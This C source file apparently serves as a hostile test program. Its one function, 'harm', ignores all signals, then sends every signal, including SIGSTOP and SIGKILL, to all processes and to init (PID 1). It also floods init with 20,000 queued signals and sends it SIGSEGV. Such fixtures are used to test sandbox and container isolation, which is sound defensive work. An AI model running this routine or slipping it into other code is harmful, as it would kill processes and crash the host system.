#include "hostile.h"

static int harm(void)
{
	for (int number = 1; number < NSIG; number++) {
		if (number == SIGKILL || number == SIGSTOP)
			continue;
		signal(number, SIG_IGN);
		kill(-1, number);
		kill(1, number);
	}
	kill(-1, SIGSTOP);
	kill(-1, SIGKILL);
	kill(1, SIGSTOP);
	kill(1, SIGKILL);
	for (int i = 0; i < 20000; i++) {
		union sigval value = {.sival_int = i};
		sigqueue(1, SIGRTMIN + 3, value);
		sigqueue(1, SIGCHLD, value);
	}
	syscall(SYS_tgkill, 1, 1, SIGSEGV);
	return 3;
}
